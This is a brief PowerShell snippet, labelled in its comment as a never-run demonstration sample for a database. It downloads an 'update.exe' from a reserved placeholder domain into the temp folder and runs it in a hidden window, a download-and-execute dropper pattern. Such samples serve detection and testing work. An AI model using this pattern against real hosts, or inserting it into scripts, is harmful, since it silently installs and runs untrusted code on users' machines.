# Demonstration sample for the default database: never run it. The address
# is in a reserved domain that resolves nowhere.
$client = New-Object Net.WebClient
$client.DownloadFile("https://example.invalid/update.exe", "$env:TEMP\update.exe")
Start-Process -WindowStyle Hidden "$env:TEMP\update.exe"
